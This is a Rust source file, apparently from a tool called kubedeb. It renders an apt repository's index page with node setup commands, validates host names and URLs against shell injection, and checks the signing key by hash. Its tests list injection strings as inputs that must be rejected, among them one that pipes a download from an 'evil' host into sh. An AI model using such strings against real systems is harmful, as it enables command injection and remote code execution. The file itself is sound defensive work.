//! The index page: the commands a node runs, with a base URL that is only ever a checked host name.

use super::facts::Facts;
use crate::repository::KEYRING_NAME as KEYRING;
use std::net::{Ipv4Addr, Ipv6Addr};

/// Shown in place of the host when a request names none (HTTP/1.0 without Host).
pub const PLACEHOLDER: &str = "THIS-SERVER";

/// The base URL for a request: `--url` if given, else `http://` and the request's Host.
///
/// The Host header is the client's to choose, and the page puts it into shell commands: only a
/// plain `host[:port]` is taken, so nothing it carries can leave the quotes.
pub fn base_url(url: Option<&str>, host: Option<&[u8]>) -> Result<String, String> {
    if let Some(url) = url {
        return Ok(url.trim_end_matches('/').to_string());
    }
    match host {
        None => Ok(format!("http://{PLACEHOLDER}")),
        Some(raw) => match std::str::from_utf8(raw) {
            Ok(host) if is_host_port(host) => Ok(format!("http://{host}")),
            // Not echoed: the answer must carry nothing the client chose.
            _ => Err("the request's Host header is not a host name or address with an optional :port; \
                 request the page by the server's name or address, or start kubedeb serve with --url"
                .to_string()),
        },
    }
}

/// Checks `--url`: http(s), a `host[:port]`, and a path of plain characters.
pub fn check_url(url: &str) -> Result<(), String> {
    let bad = |why: &str| {
        Err(format!(
            "--url {url:?} {why}; give the address nodes use, like http://10.0.0.1:8000 or http://repo.example:8000/kubedeb"
        ))
    };
    let Some(rest) = url
        .strip_prefix("http://")
        .or_else(|| url.strip_prefix("https://"))
    else {
        return bad("does not start with http:// or https://");
    };
    let (authority, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
    if !is_host_port(authority) {
        return bad("has no valid host[:port] after the scheme");
    }
    if !path
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || b"-._~/".contains(&b))
    {
        return bad("has characters other than letters, digits and -._~/ in its path");
    }
    Ok(())
}

/// `name`, `1.2.3.4` or `[::1]`, each with an optional `:port`.
pub fn is_host_port(s: &str) -> bool {
    let (host, port) = if let Some(rest) = s.strip_prefix('[') {
        let Some((inside, after)) = rest.split_once(']') else {
            return false;
        };
        if inside.parse::<Ipv6Addr>().is_err() {
            return false;
        }
        match after {
            "" => return true,
            _ => match after.strip_prefix(':') {
                Some(port) => (None, Some(port)),
                None => return false,
            },
        }
    } else {
        match s.rsplit_once(':') {
            Some((host, port)) => (Some(host), Some(port)),
            None => (Some(s), None),
        }
    };
    let port_ok = port.is_none_or(|p| {
        !p.is_empty()
            && p.len() <= 5
            && p.bytes().all(|b| b.is_ascii_digit())
            && p.parse::<u16>().is_ok()
    });
    port_ok && host.is_none_or(is_host_name)
}

fn is_host_name(host: &str) -> bool {
    if host.parse::<Ipv4Addr>().is_ok() {
        return true;
    }
    let host = host.strip_suffix('.').unwrap_or(host);
    !host.is_empty()
        && host.len() <= 253
        && host.split('.').all(|label| {
            !label.is_empty()
                && label.len() <= 63
                && !label.starts_with('-')
                && !label.ends_with('-')
                && label
                    .bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b == b'-')
        })
}

/// The exact commands a node runs to use this repository. They need only what a minimal
/// Debian 12 has: apt's own download helper fetches the key (there may be no curl or wget) and,
/// given the served keyring's sha256, refuses any other file before it is installed.
pub fn node_commands(base: &str, suite: &str, keyring_sha256: Option<&str>) -> String {
    let check = keyring_sha256.map_or(String::new(), |h| format!(" SHA256:{h}"));
    format!(
        "/usr/lib/apt/apt-helper download-file {base}/{KEYRING}.gpg /tmp/{KEYRING}.gpg{check} \\\n  \
         && install -m 0644 /tmp/{KEYRING}.gpg /usr/share/keyrings/{KEYRING}.gpg\n\
         echo 'deb [signed-by=/usr/share/keyrings/{KEYRING}.gpg] {base}/ {suite} main' > /etc/apt/sources.list.d/kubedeb.list\n\
         apt-get update\n"
    )
}

pub fn index_page(base: &str, suite: &str, facts: &Facts) -> String {
    let sha = facts.keyring.as_ref().map(|k| k.sha256.as_str());
    let commands = html_escape(&node_commands(base, suite, sha));
    let suite = html_escape(suite);
    let key = match &facts.keyring {
        Some(k) => format!(
            "<p>The repository is signed by the key with fingerprint</p>\n<pre id=\"fingerprint\">{}</pre>\n\
             <p>Before running these commands, compare it with the fingerprint <code>kubedeb serve</code> \
             (or <code>kubedeb publish</code>) printed on the repository host: this page comes over plain HTTP, \
             so only that comparison shows the key is the right one. The first command refuses a key file whose \
             sha256 is not <code>{}</code>. On a node with gpg, <code>gpg --show-keys /usr/share/keyrings/{KEYRING}.gpg</code> \
             prints the fingerprint of the installed key.</p>\n",
            k.fingerprints.join("\n"),
            k.sha256
        ),
        None => format!(
            "<p><strong>The served keyring {KEYRING}.gpg cannot be read or holds no key</strong>: \
             publish again with <code>kubedeb publish</code> on the repository host before adding this repository.</p>\n"
        ),
    };
    let master = match facts.master {
        Some(ip) => format!("<p>Then, on the master <strong id=\"master-ip\">{ip}</strong> (the host the packages were built for):</p>"),
        None => "<p>Then, on the master (the host whose address is master_ip in the cluster settings):</p>".to_string(),
    };
    format!(
        "<!doctype html>\n<html><head><meta charset=\"utf-8\"><title>kubedeb repository</title></head><body>\n\
         <h1>kubedeb apt repository</h1>\n\
         {key}\
         <p>On every node, as root:</p>\n<pre id=\"setup\">{commands}</pre>\n\
         {master}\n<pre id=\"master\">apt-get install -y k8s-master</pre>\n\
         <p>On every other node:</p>\n<pre id=\"minion\">apt-get install -y k8s-minion</pre>\n\
         <p>A host that is master and node installs both. The key is also at <a href=\"{KEYRING}.asc\">{KEYRING}.asc</a>; \
         the suite's signed index is <a href=\"dists/{suite}/InRelease\">dists/{suite}/InRelease</a>, its packages are listed in \
         <a href=\"dists/{suite}/main/binary-amd64/Packages\">dists/{suite}/main/binary-amd64/Packages</a>.</p>\n</body></html>\n"
    )
}

fn html_escape(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn node_commands_use_signed_by_never_trusted() {
        let text = node_commands("http://10.0.0.1:8000", "stable", Some("ab12"));
        assert!(text.contains("[signed-by=/usr/share/keyrings/kubedeb-archive-keyring.gpg] http://10.0.0.1:8000/ stable main"));
        assert!(!text.contains("trusted=yes"));
        assert!(!text.contains("curl"), "{text}");
        assert!(text.contains("apt-helper download-file http://10.0.0.1:8000/kubedeb-archive-keyring.gpg /tmp/kubedeb-archive-keyring.gpg SHA256:ab12"), "{text}");
    }

    #[test]
    fn only_plain_hosts_with_ports_pass() {
        for good in [
            "10.0.0.1",
            "10.0.0.1:8000",
            "repo",
            "repo.example.org:80",
            "repo.example.org.",
            "[::1]",
            "[fe80::1]:8000",
        ] {
            assert!(is_host_port(good), "{good}");
        }
        for bad in [
            "",
            ":80",
            "x' ; curl http://evil/x|sh ; echo '",
            "a b",
            "host:",
            "host:99999",
            "host:80:80",
            "user@host",
            "-host",
            "ho$t",
            "[::1",
            "[nothex]:80",
            "[::1]x",
            "host/path",
        ] {
            assert!(!is_host_port(bad), "{bad}");
        }
    }

    #[test]
    fn base_url_prefers_url_then_a_valid_host() {
        assert_eq!(
            base_url(Some("http://a:1/"), Some(b"x'y")).unwrap(),
            "http://a:1"
        );
        assert_eq!(base_url(None, Some(b"b:2")).unwrap(), "http://b:2");
        assert_eq!(base_url(None, None).unwrap(), "http://THIS-SERVER");
        let err = base_url(None, Some(b"x' ; sh")).unwrap_err();
        assert!(err.contains("--url"), "{err}");
        assert!(base_url(None, Some(b"\xff")).is_err());
    }

    #[test]
    fn url_must_be_http_with_a_plain_host_and_path() {
        assert!(check_url("http://10.0.0.1:8000").is_ok());
        assert!(check_url("https://repo.example/kubedeb/").is_ok());
        for bad in [
            "10.0.0.1:8000",
            "ftp://x",
            "http://x'y",
            "http://x/'; sh",
            "http://",
            "http://x/a b",
        ] {
            let err = check_url(bad).unwrap_err();
            assert!(err.contains("--url"), "{err}");
        }
    }
}
